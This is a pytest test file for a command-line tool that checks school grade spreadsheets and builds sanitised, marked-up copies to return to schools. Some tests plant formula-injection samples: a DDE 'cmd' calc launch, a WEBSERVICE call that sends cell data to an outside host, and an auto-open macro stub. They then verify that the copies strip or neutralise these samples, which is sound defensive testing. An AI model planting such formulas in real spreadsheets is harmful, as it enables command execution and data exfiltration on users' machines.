"""``quality check``: findings for people and programs, and marked-up copies to send back to the school."""

import html
import io
import json
import os
import pty
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from calling import call
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook import Workbook
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.table import Table
from openpyxl.worksheet.worksheet import Worksheet

SCHOOL = "vo-01"
HEADER = ("Организация", "Год", "Класс", "Предмет", "Код участника", "Первичный балл", "Отметка", "Заметки")
PERSON = "Выдумкина Анна"
ROSE, YELLOW = "00FFC7CE", "00FFEB9C"


@pytest.fixture
def data(small_data: Path, tmp_path: Path) -> Path:
    """The register, a sound book, a book with problems (a person's name in the column of marks) and a table."""
    folder = tmp_path / "данные"
    (folder / "школа 1").mkdir(parents=True)
    shutil.copy(next(small_data.glob("Реестр*")), folder)
    start = (SCHOOL, 2025, 4, "Математика")
    _book(folder / "верная.xlsx", [(*start, "в1", 10, 5, None)])
    rows = [(*start, f"а{n}", 10, PERSON, "=1+1") for n in range(7)]
    rows += [(*start, "б1", 10, 5, PERSON), (*start, "б1", 10, 4, None), (SCHOOL, 2025, 4, "Химия", "х", 1, 2, None)]
    book = _book(folder / "школа 1" / "отметки.xlsx", rows)
    sheet = _sheet(book)
    sheet["F2"] = "=5+5"
    sheet["H2"].data_type = "s"
    sheet["G2"].comment = Comment("спросить у учителя", "школа")
    sheet["A9"].font = Font(bold=True)
    sheet["A9"].fill = PatternFill("solid", fgColor="0000FF00")
    sheet.merge_cells("G7:G8")
    book.save(folder / "школа 1" / "отметки.xlsx")
    text = "\n".join(";".join(map(str, row)) for row in (HEADER, (*start, "т1", "=2", "семь", "=A1")))
    (folder / "таблица.csv").write_text(text, encoding="cp1251")
    return folder


def _book(path: Path, rows: list[tuple[object, ...]]) -> Workbook:
    book = openpyxl.Workbook()
    _sheet(book).title = "Отметки"
    for row in (HEADER, *rows):
        _sheet(book).append(row)
    book.save(path)
    return book


def _sheet(book: Workbook) -> Worksheet:
    return book.worksheets[-1]


def _remarks(path: Path) -> list[tuple[object, ...]]:
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet.title == "Замечания"
    return list(sheet.iter_rows(min_row=6, values_only=True))


def test_json_gives_everything(data: Path) -> None:
    outcome = call("check", data, "--json")
    told = json.loads(outcome.out)
    assert (outcome.code, told["version"]) == (12, 1)
    told_of = {
        finding["code"]: finding for finding in told["findings"] if "школа 1/отметки.xlsx" in str(finding["places"])
    }
    bad = told_of["cell.value"]
    assert (bad["severity"], bad["total"]) == ("error", 6)
    assert [place["cell"] for place in bad["places"]] == [f"G{row}" for row in range(2, 8)]
    assert {"name", "layouts", "rows"} == set(told["files"][0])


def test_it_says_who_has_handed_in_what(small_data: Path, tmp_path: Path) -> None:
    folder = tmp_path / "данные"
    folder.mkdir()
    shutil.copy(next(small_data.glob("Реестр*")), folder)
    plans = "Организация;Учебный год;Вид;Код обучающегося\n"
    plans += "".join(f"vo-{n:02};2025/2026;{plan};1\n" for n in range(1, 9) for plan in ("ИОП", "ИУП", "АОП", "СИПР"))
    plans += "".join(f"vo-{n:02};2025/2026;ИОМ по профориентации;1\n" for n in range(1, 8))
    (folder / "планы.csv").write_text(plans, encoding="utf-8")
    nothing = (
        "Организация;Учебный год;Таблица без сведений\nvo-09;2025/2026;Индивидуальные планы и программы обучающихся\n"
    )
    (folder / "сведений нет.csv").write_text(nothing, encoding="utf-8")
    (folder / "quality.yaml").write_text("none: [{org: vo-10, table: plans, period: 2025/2026}]", encoding="utf-8")
    outcome = call("check", folder)
    assert "\tИндивидуальные планы и программы обучающихся\t9 из 10\t39\t10\t1\t" in outcome.out
    told = json.loads(call("check", folder, "--json", "--today", "2026-07-01").out)["completeness"]
    assert (told["period"], told["today"]) == ("2025/2026", "2026-07-01")
    tables = {table["dataset"]: table for table in told["tables"]}
    units = {unit["org_id"]: unit["tables"]["plans"] for unit in told["organisations"] if "plans" in unit["tables"]}
    assert units["vo-01"] == {"received": 5, "none": 0, "missing": 0, "overdue": 0}
    assert units["vo-08"] == {"received": 4, "none": 0, "missing": 1, "overdue": 1}
    assert units["vo-09"] == units["vo-10"] == {"received": 0, "none": 5, "missing": 0, "overdue": 0}
    assert "ds-01" not in units
    assert tables["plans"] == {
        "dataset": "plans",
        "table": "Индивидуальные планы и программы обучающихся",
        "expected": 10,
        "received": 9,
        "partly": ["vo-08"],
        "silent": [],
        "reports": {"received": 39, "none": 10, "missing": 1, "overdue": 1},
    }
    before = json.loads(call("check", folder, "--json", "--today", "2026-06-30").out)["completeness"]
    assert {table["reports"]["overdue"] for table in before["tables"] if table["dataset"] == "plans"} == {0}
    stranger = "none: [{org: Брусничная школа, table: plans, period: 2025/2026}]"
    (folder / "quality.yaml").write_text(stranger, encoding="utf-8")
    outcome = call("check", folder)
    assert outcome.code == 2
    assert "none: нет организации «Брусничная школа» в реестре" in outcome.err


def test_findings_are_lines_in_a_pipe_and_tables_on_a_terminal(data: Path) -> None:
    plain = call("check", data)
    assert plain.code == 12
    assert "ошибка [cell.value] таблица.csv · G2: столбец «Отметка»: не понять «семь»" in plain.err
    assert plain.err.index("ошибка [") < plain.err.index("внимание [")
    drawn = _on_a_terminal("check", str(data))
    for title in ("Ошибки", "Стоит проверить", "Код", "Место", "Всего", "cell.value", "check.row", "→"):
        assert title in drawn
    assert "ошибка [" not in drawn


def _on_a_terminal(*arguments: str) -> str:
    """What a person sees, on a terminal of 160 columns."""
    master, slave = pty.openpty()
    program = [sys.executable, "-c", "from quality_cli.cli.main import main; main()", *arguments]
    environment = {**os.environ, "COLUMNS": "160", "TERM": "xterm", "NO_COLOR": "1"}
    with subprocess.Popen(program, stdout=slave, stderr=slave, env=environment) as process:
        os.close(slave)
        seen = b""
        while True:
            try:
                part = os.read(master, 65536)
            except OSError:
                break
            if not part:
                break
            seen += part
        process.wait()
    os.close(master)
    return seen.decode("utf-8")


def test_a_code_is_explained_without_data() -> None:
    outcome = call("check", "--explain", "check.derived")
    assert (outcome.code, outcome.err) == (0, "")
    assert outcome.out.startswith("# check.derived: ")
    assert "**Что делать.**" in outcome.out
    wrong = call("check", "--explain", "check.drived")
    assert (wrong.code, "возможно, «check.derived»?" in wrong.err) == (2, True)


def test_copies_are_made_of_files_with_problems_only(data: Path, tmp_path: Path) -> None:
    outcome = call("check", data, "--marked", tmp_path / "копии")
    assert outcome.code == 12
    assert f"Размеченных копий: 2, папка: {tmp_path / 'копии'}" in outcome.out
    written = {path.relative_to(tmp_path / "копии").as_posix() for path in (tmp_path / "копии").rglob("*.*")}
    assert written == {"manifest.json", "школа 1/отметки.xlsx", "таблица.csv.xlsx"}


def test_bad_cells_are_coloured_and_commented_and_nothing_else_changes(data: Path, tmp_path: Path) -> None:
    call("check", data, "--marked", tmp_path / "копии")
    before = openpyxl.load_workbook(data / "школа 1" / "отметки.xlsx")["Отметки"]
    after = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")["Отметки"]
    assert list(after.values) == list(before.values)
    kinds = [[cell.data_type for row in sheet.iter_rows() for cell in row] for sheet in (before, after)]
    assert kinds[0] == kinds[1]
    assert (after["F2"].value, after["F2"].data_type, after["H2"].data_type) == ("=5+5", "f", "s")
    fills = {
        cell.coordinate: cell.fill.fgColor.rgb
        for row in after.iter_rows()
        for cell in row
        if cell.fill.fgColor.rgb in (ROSE, YELLOW)
    }
    assert fills == {**{f"G{row}": ROSE for row in range(2, 8)}, "F2": ROSE, "A10": ROSE, "C11": YELLOW}
    assert (after["A9"].font.bold, after["A9"].fill.fgColor.rgb) == (True, "0000FF00")
    said = after["G2"].comment.text
    assert said.startswith("спросить у учителя\n")
    assert "ошибка: столбец «Отметка»: не понять" in said
    assert "→ ожидается целое число от 2 до 5" in said
    assert "строка противоречит уже прочитанной" in after["A10"].comment.text


def test_the_first_sheet_lists_every_place_with_a_link(data: Path, tmp_path: Path) -> None:
    call("check", data, "--marked", tmp_path / "копии")
    path = tmp_path / "копии" / "школа 1" / "отметки.xlsx"
    remarks = _remarks(path)
    assert [(row[0], row[2], row[6]) for row in remarks] == [
        ("ошибка", "F2", "cell.formula"),
        *(("ошибка", f"G{row}", "cell.value") for row in range(2, 8)),
        ("ошибка", "строка 10", "row.conflict"),
        ("внимание", "C11", "check.row"),
    ]
    assert remarks[7][4] == "первая — школа 1/отметки.xlsx · Отметки · строка 9"
    book = openpyxl.load_workbook(path)
    assert book.active is not None
    assert book.active.title == "Замечания"
    assert book.worksheets[0]["C6"].hyperlink.location == "'Отметки'!F2"


def test_no_person_is_named_in_remarks(data: Path, tmp_path: Path) -> None:
    call("check", data, "--marked", tmp_path / "копии")
    path = tmp_path / "копии" / "школа 1" / "отметки.xlsx"
    with zipfile.ZipFile(path) as archive:
        comments = [archive.read(name).decode() for name in archive.namelist() if "comment" in name]
    assert comments
    assert "Выдумкина" not in "".join(comments)
    assert "Выдумкина" not in repr(_remarks(path))
    assert openpyxl.load_workbook(path)["Отметки"]["H9"].value == PERSON


def test_a_table_becomes_a_book_without_formulas(data: Path, tmp_path: Path) -> None:
    call("check", data, "--marked", tmp_path / "копии")
    sheet = openpyxl.load_workbook(tmp_path / "копии" / "таблица.csv.xlsx").worksheets[1]
    assert [cell.value for cell in sheet[2]] == [SCHOOL, "2025", "4", "Математика", "т1", "=2", "семь", "=A1"]
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert sheet["G2"].fill.fgColor.rgb == ROSE


def test_a_repaired_copy_comes_back_clean(data: Path, tmp_path: Path) -> None:
    call("check", data, "--marked", tmp_path / "копии")
    back = tmp_path / "второй раз"
    shutil.copytree(data, back)
    returned = back / "школа 1" / "отметки.xlsx"
    book = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")
    for row in range(2, 7):
        book["Отметки"][f"G{row}"] = 4
    book["Отметки"]["F2"] = 10
    book["Отметки"].delete_rows(10, 2)
    book.save(returned)
    (back / "таблица.csv").unlink()
    outcome = call("check", back, "--marked", tmp_path / "копии")
    assert "sheet.unknown" not in outcome.err
    assert [row[2] for row in _remarks(tmp_path / "копии" / "школа 1" / "отметки.xlsx")] == ["G7"]
    sheet = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")["Отметки"]
    assert sheet["G2"].comment.text == "спросить у учителя"
    assert [sheet[f"G{row}"].fill.fgColor.rgb for row in (2, 3)] == ["00000000"] * 2
    assert sheet["G3"].comment is None
    assert not (tmp_path / "копии" / "таблица.csv.xlsx").exists()


def test_the_same_files_give_the_same_bytes(data: Path, tmp_path: Path) -> None:
    for name in ("раз", "два"):
        call("check", data, "--marked", tmp_path / name)
    first, second = (
        {path.relative_to(tmp_path / name): path.read_bytes() for path in (tmp_path / name).rglob("*.*")}
        for name in ("раз", "два")
    )
    assert first == second


def test_a_file_that_cannot_be_opened_is_named(data: Path, tmp_path: Path) -> None:
    (data / "битая.xlsx").write_bytes(b"not a book")
    outcome = call("check", data, "--marked", tmp_path / "копии")
    assert "Копию не сделать: битая.xlsx" in outcome.out
    assert not (tmp_path / "копии" / "битая.xlsx").exists()


def test_somebody_elses_folder_is_not_touched(data: Path, tmp_path: Path) -> None:
    results = tmp_path / "итог"
    results.mkdir()
    (results / "manifest.json").write_text('{"outputs": {}}', encoding="utf-8")
    refused = call("check", data, "--marked", results)
    assert (refused.code, "занята другими файлами" in refused.err) == (15, True)
    assert [path.name for path in results.iterdir()] == ["manifest.json"]
    for inside in (data / "копии", data, tmp_path):
        assert call("check", data, "--marked", inside).code == 2
    assert not (data / "копии").exists()


def test_a_formula_that_reaches_out_comes_back_as_text(data: Path, tmp_path: Path) -> None:
    path = data / "школа 1" / "отметки.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book["Отметки"]
    written = ["=SUM(A1:A2)", "=cmd|'/c calc'!A0", '=HYPERLINK("http://example.org")', "='C:\\[чужая.xlsx]Лист1'!A1"]
    for column, formula in enumerate(written, start=12):
        sheet.cell(20, column, formula)
    book.save(path)
    call("check", data, "--marked", tmp_path / "копии")
    copy = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")["Отметки"]
    cells = [copy.cell(20, column) for column in range(12, 16)]
    assert [cell.value for cell in cells] == written
    assert [cell.data_type for cell in cells[:1]] == ["f"]
    with zipfile.ZipFile(tmp_path / "копии" / "школа 1" / "отметки.xlsx") as archive:
        sheets = "".join(archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name)
    assert re.findall(r"<f>(.*?)</f>", sheets).count("SUM(A1:A2)") == 1
    assert not re.search(r"<f>[^<]*(cmd|HYPERLINK|чужая)", sheets)


def test_a_copy_is_plain_cells_whatever_the_book_carries(data: Path, tmp_path: Path) -> None:
    path = data / "школа 1" / "отметки.xlsx"
    book = openpyxl.load_workbook(path)
    sheet = book["Отметки"]
    evil = 'WEBSERVICE("http://example.org/"&G2)'
    book.defined_names["Пуск"] = DefinedName("Пуск", attr_text="cmd|'/c calc'!$A$1")
    sheet.defined_names["Местное"] = DefinedName("Местное", attr_text="[1]Лист!$A$1")
    sheet.conditional_formatting.add("A1:A9", FormulaRule([evil], fill=PatternFill("solid", fgColor="00FF00")))
    rule = DataValidation(type="custom", formula1=evil)
    rule.add("B2")
    sheet.add_data_validation(rule)
    sheet["L1"], sheet["L1"].hyperlink = "сюда", "http://example.org/"
    sheet.add_table(Table(displayName="Т", ref="A1:H4"))
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=6, min_row=1, max_row=4))
    sheet.add_chart(chart, "N1")
    other = BarChart()
    other.add_data(Reference(sheet, min_col=6, min_row=1, max_row=4))
    book.create_chartsheet("График").add_chart(other)
    harmless = ("=SUM(A1:A2)", "=IF($F$2>Отметки!F3,\"да | нет\",'Отметки'!F4)", "=_xlfn.IFNA(A1,0)")
    reaching = (f"={evil}", "=Пуск", "=SUM(Т[Класс])", "=_xlfn.UNKNOWN(A1)", "='[чужая.xlsx]Лист1'!A1", "={1,2}")
    for row, formula in enumerate((*harmless, *reaching), start=20):
        sheet.cell(row, 12, formula)
    book.custom_doc_props.append(StringProperty(name="кто", value=PERSON))
    book.save(path)
    call("check", data, "--marked", tmp_path / "копии")
    with zipfile.ZipFile(tmp_path / "копии" / "школа 1" / "отметки.xlsx") as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    allowed = r"\[Content_Types\].xml|_rels/.rels|docProps/(app|core).xml|xl/(workbook|styles|sharedStrings).xml"
    sheets = r"xl/theme/theme1.xml|xl/_rels/workbook.xml.rels|xl/worksheets/(sheet\d.xml|_rels/sheet\d.xml.rels)"
    comments = r"xl/comments/comment\d.xml|xl/drawings/commentsDrawing\d.vml"
    assert [name for name in parts if not re.fullmatch(f"{allowed}|{sheets}|{comments}", name)] == []
    whole = re.sub("<t>.*?</t>", "", "".join(parts.values()), flags=re.DOTALL)  # without texts
    for trace in ("example.org", "cmd|", "Пуск<", "conditionalFormatting", "dataValidation", "External", "tablePart"):
        assert trace not in whole, trace
    assert [html.unescape(found) for found in re.findall(r"<f>(.*?)</f>", whole)] == [
        *("5+5", *["1+1"] * 6),
        *(formula[1:] for formula in harmless),
    ]
    copy = openpyxl.load_workbook(tmp_path / "копии" / "школа 1" / "отметки.xlsx")["Отметки"]
    assert [copy.cell(row, 12).value for row in range(20, 29)] == [*harmless, *reaching]
    assert copy["L1"].value == "сюда"


def test_a_book_with_macros_comes_back_without_them(data: Path, tmp_path: Path) -> None:
    path = data / "школа 1" / "отметки.xlsx"
    content = path.read_bytes()
    path.unlink()
    with zipfile.ZipFile(io.BytesIO(content)) as book, zipfile.ZipFile(path.with_suffix(".xlsm"), "w") as target:
        for name in book.namelist():
            target.writestr(name, book.read(name))
        target.writestr("xl/vbaProject.bin", b"Sub Auto_Open()")
    call("check", data, "--marked", tmp_path / "копии")
    with zipfile.ZipFile(tmp_path / "копии" / "школа 1" / "отметки.xlsm.xlsx") as archive:
        assert not [name for name in archive.namelist() if "vba" in name]
        assert "macroEnabled" not in archive.read("[Content_Types].xml").decode()


def test_two_files_whose_copies_would_have_one_name(data: Path, tmp_path: Path) -> None:
    book = openpyxl.load_workbook(data / "школа 1" / "отметки.xlsx")
    book.save(data / "таблица.csv.xlsx")
    outcome = call("check", data, "--marked", tmp_path / "копии")
    assert "Размеченных копий: 3" in outcome.out
    assert {path.name for path in (tmp_path / "копии").glob("таблица*")} == {"таблица.csv.xlsx", "таблица.csv (2).xlsx"}
